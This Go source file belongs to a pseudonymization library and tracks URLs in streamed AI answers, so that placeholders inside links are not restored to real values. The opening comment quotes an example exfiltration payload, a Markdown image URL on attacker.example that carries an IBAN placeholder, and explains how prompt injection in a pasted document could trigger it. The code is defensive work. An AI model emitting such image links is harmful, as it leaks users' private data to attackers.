package pseudonym

import (
	"strings"
	"unicode/utf8"
)

// linkState follows the text of an answer as the restorer passes it on, so
// that a placeholder standing inside a URL is left as it is. Restored there,
// the value would leave with the next request for that URL: an answer (a
// hostile service, or instructions injected into a document the user
// pasted) that writes "![](https://attacker.example/p.png?d=[IBAN_1])"
// would have the browser load the image with the real IBAN, which the
// service was never meant to see. Outside URLs placeholders are restored as
// before.
//
// A URL starts, within a token (a run of bytes without ASCII white space),
// at "//" (also written with backslashes, as browsers read them), "http:",
// "https:", "www." or an HTML character reference ("&#", "&sol;", "&colon;",
// with which a renderer may spell the slashes). It ends at the next white
// space, or, when the token opened a quote or angle bracket before it
// (src="…", <…> in Markdown), at the closing character only: such a URL may
// hold spaces and line breaks. Everything is judged on the text as the
// client reads it: in JSON, escapes are decoded ("\u002f\/" is "//", "\n"
// is white space); an unescaped quote ends a string and what it opened,
// but a URL that ran to the end of one string goes on into the next
// (clients join the parts of an answer) until white space. The state is a
// few bytes, whatever the length of the answer.
type linkState struct {
	json   bool   // JSON: escapes decoded, restored values escaped, a bare quote ends a string
	html   bool   // HTML or XML: restored values HTML-escaped (not JSON)
	lines  byte   // not JSON: what a CR or LF in a restored value becomes ('\n' in SSE data; 0 = kept)
	nested bool   // JSON: inside a string that holds JSON (tool-call arguments): restored values escaped twice
	esc    uint8  // JSON: 1 after a backslash, 2–5 within the hex digits of \uXXXX
	hex    rune   // JSON: the \uXXXX value read so far
	recent uint64 // the token's last eight bytes, lower case, '\\' read as '/'
	quote  byte   // the closing byte of the last quote or '<' the token opened, or 0
	inURL  bool
	closer byte // inURL: the byte that ends the URL; 0 = white space
}

// Byte patterns of URL starts, as recent holds them (last byte lowest).
const (
	pat2Slashes = uint64('/')<<8 | '/'
	pat2CharRef = uint64('&')<<8 | '#'
	pat4WWW     = uint64('w')<<24 | uint64('w')<<16 | uint64('w')<<8 | '.'
	pat5HTTP    = uint64('h')<<32 | uint64('t')<<24 | uint64('t')<<16 | uint64('p')<<8 | ':'
	pat6HTTPS   = uint64('h')<<40 | uint64('t')<<32 | uint64('t')<<24 | uint64('p')<<16 | uint64('s')<<8 | ':'
	pat5Sol     = uint64('&')<<32 | uint64('s')<<24 | uint64('o')<<16 | uint64('l')<<8 | ';'
	pat7Colon   = uint64('&')<<48 | uint64('c')<<40 | uint64('o')<<32 | uint64('l')<<24 | uint64('o')<<16 | uint64('n')<<8 | ';'
)

// feed moves the state over src, bytes of the answer as the restorer reads
// them (JSON-escaped where json is set).
func (s *linkState) feed(src []byte) {
	for i := 0; i < len(src); {
		if s.esc == 0 {
			// A run of bytes that neither end a token nor a URL nor
			// complete a URL start only moves the last bytes along.
			j := i
			for j < len(src) && linkPlain[src[j]] {
				j++
			}
			if j > i {
				if !s.inURL {
					for _, c := range src[max(i, j-8):j] {
						if 'A' <= c && c <= 'Z' {
							c += 'a' - 'A'
						}
						s.recent = s.recent<<8 | uint64(c)
					}
				}
				if i = j; i == len(src) {
					return
				}
			}
		}
		c := src[i]
		i++
		if s.json {
			switch s.esc {
			case 0:
				switch c {
				case '\\':
					s.esc = 1
					continue
				case '"': // the end (or start) of a JSON string
					// A client may join strings (Gemini's parts,
					// Anthropic's content blocks): a URL at the end
					// of one goes on in the next until white space.
					// Quotes and brackets opened in it are forgotten.
					in := s.inURL && s.closer == 0
					s.reset()
					s.inURL = in
					continue
				}
			case 1:
				s.esc = 0
				switch c {
				case 'u':
					s.esc, s.hex = 2, 0
					continue
				case 'n':
					c = '\n'
				case 'r':
					c = '\r'
				case 't':
					c = '\t'
				case 'f':
					c = '\f'
				case 'b':
					c = '\b'
				}
			default:
				s.hex = s.hex<<4 | rune(hexValue(c))
				if s.esc++; s.esc <= 5 {
					continue
				}
				s.esc = 0
				if s.hex >= utf8.RuneSelf {
					c = utf8.RuneSelf // any non-ASCII character
				} else {
					c = byte(s.hex)
				}
			}
		}
		s.char(c)
	}
}

// char moves the state over one character of the text the client reads.
// NUL is no character there: chat-ui's client (HuggingChat) drops it from
// every token (it pads them with NUL) and HTML parsers drop it from text,
// so "htt\x00ps://" is read as "https://".
func (s *linkState) char(c byte) {
	if c == 0 {
		return
	}
	if c < utf8.RuneSelf && asciiSpace[c] {
		if !s.inURL || s.closer == 0 {
			s.recent, s.quote, s.inURL = 0, 0, false
		}
		return
	}
	if s.inURL {
		if s.closer != 0 && c == s.closer {
			s.recent, s.quote, s.inURL, s.closer = 0, 0, false, 0
		}
		return
	}
	switch {
	case c == '<':
		s.quote = '>'
	case c == '"' || c == '\'':
		s.quote = c
	case c == '\\':
		c = '/'
	case 'A' <= c && c <= 'Z':
		c += 'a' - 'A'
	}
	s.recent = s.recent<<8 | uint64(c)
	switch c {
	case '/', '#':
		if r := s.recent & 0xffff; r != pat2Slashes && r != pat2CharRef {
			return
		}
	case '.':
		if s.recent&0xffffffff != pat4WWW {
			return
		}
	case ':':
		if s.recent&0xff_ffff_ffff != pat5HTTP && s.recent&0xffff_ffff_ffff != pat6HTTPS {
			return
		}
	case ';':
		if s.recent&0xff_ffff_ffff != pat5Sol && s.recent&0xff_ffff_ffff_ffff != pat7Colon {
			return
		}
	default:
		return
	}
	s.inURL, s.closer = true, s.quote
}

// wordBefore reports whether the last character the state moved over
// would join a bare placeholder after it to a longer word: a letter, digit,
// mark, "_" or "[", or a character it cannot tell (a non-ASCII one written
// as a JSON "\u" escape). Nothing (the start, white space) is no word.
// Only meaningful outside a URL, where recent is kept.
func (s *linkState) wordBefore() bool {
	c := byte(s.recent)
	switch {
	case c == 0:
		return false
	case c < utf8.RuneSelf:
		return isWordByte(c) || c == '['
	}
	// recent holds the last bytes as read: decode the character they end with.
	var b [8]byte
	for i := range b {
		b[i] = byte(s.recent >> (8 * (7 - i)))
	}
	r, _ := utf8.DecodeLastRune(b[:])
	return isWordRune(r)
}

// linkPlain marks the bytes feed may pass over in bulk: all but white
// space, quotes, angle brackets, backslashes, NUL (which char skips) and
// the last bytes of the URL starts.
var linkPlain = func() (t [256]bool) {
	for c := range t {
		t[c] = c != 0 && !(c < utf8.RuneSelf && asciiSpace[c]) && !strings.ContainsRune("\"'<>\\/#.:;", rune(c))
	}
	return t
}()

// reset forgets the token (a JSON string ended or began).
func (s *linkState) reset() {
	s.recent, s.quote, s.inURL, s.closer = 0, 0, false, 0
}

func hexValue(c byte) byte {
	switch {
	case '0' <= c && c <= '9':
		return c - '0'
	case 'a' <= c && c <= 'f':
		return c - 'a' + 10
	case 'A' <= c && c <= 'F':
		return c - 'A' + 10
	}
	return 0
}
